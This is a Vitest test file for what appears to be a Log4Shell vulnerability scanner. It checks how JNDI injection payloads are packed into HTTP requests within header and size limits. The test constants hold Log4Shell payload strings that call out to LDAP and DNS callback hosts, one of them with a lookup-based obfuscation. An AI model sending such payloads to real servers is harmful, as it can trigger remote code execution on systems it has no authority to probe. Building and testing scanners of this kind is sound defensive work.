import { expect, test } from 'vitest'
import { defaultRequestLimits, fillAll, pack } from './pack.ts'
import type { Profile } from './point.ts'
import { points } from './points/index.ts'
import type { HttpRequest } from './request.ts'
import { writeRequest } from './write-request.ts'

const base: HttpRequest = { method: 'GET', target: '/', headers: [['Accept', '*/*']], body: null }
const short = '${jndi:dns://10.20.30.40:53530/abcdefghijklmnopqrst}'
const long = `\${jndi:ldap://abcdefghijklmnopqrst.callback.example.com:1389/abcdefghijklmnopqrst/\${lower:Y:-n}}`
const ranks: readonly Profile[] = ['quick', 'standard', 'deep']

function requestsOf(profile: Profile, payload: string) {
  const fillings = points
    .filter((point) => ranks.indexOf(point.profile) <= ranks.indexOf(profile))
    .flatMap((point) => point.places(base, { profile, headerNames: null }))
    .map((place) => ({ place, payload }))
  return { fillings, requests: pack(base, fillings) }
}

test.each([
  ['quick', short],
  ['quick', long],
  ['standard', short],
  ['standard', long],
  ['deep', long],
] as const)(
  'every place of the profile %s is in exactly one request, and no request is larger than servers take',
  (profile, payload) => {
    const { fillings, requests } = requestsOf(profile, payload)

    expect(new Set(requests.flat())).toEqual(new Set(fillings))
    expect(requests.flat()).toHaveLength(fillings.length)
    for (const request of requests) {
      const bytes = writeRequest(fillAll(base, request), { secure: true, host: 'a-host-name.example.com', port: 8443 })
      const head = new TextDecoder('latin1').decode(bytes).split('\r\n\r\n')[0] ?? ''
      expect(head.length).toBeLessThanOrEqual(defaultRequestLimits.headBytes)
      expect(head.split('\r\n').length - 1).toBeLessThanOrEqual(defaultRequestLimits.headers)
    }
  },
)

test('the quick profile fills its places in at most two requests, so that four are enough for a target', () => {
  expect(requestsOf('quick', short).requests.length).toBeLessThanOrEqual(1)
  expect(requestsOf('quick', long).requests.length).toBeLessThanOrEqual(2)
})

test.each([null, ['Cookie', 'cookie', 'X-A', 'Accept', 'x-a', 'User-Agent', 'ACCEPT']])(
  'filling a request at once is filling its places one after the other, whatever the header names: %s',
  (names) => {
    const all = points.flatMap((point) => point.places(base, { profile: 'deep', headerNames: names }))
    const fillings = all.map((place, i) => ({ place, payload: `\${jndi:dns://10.0.0.1/${i}}` }))
    const requests = [...pack(base, fillings), fillings.slice(0, 90), [...fillings].reverse().slice(-90)]
    for (const request of requests) {
      const oneByOne = request.reduce((filled, { place, payload }) => place.fill(filled, payload), base)

      expect(fillAll(base, request)).toEqual(oneByOne)
    }
  },
)

test('a place that travels alone is alone', () => {
  const { requests } = requestsOf('deep', short)

  for (const request of requests) if (request.some(({ place }) => place.shape === null)) expect(request).toHaveLength(1)
})
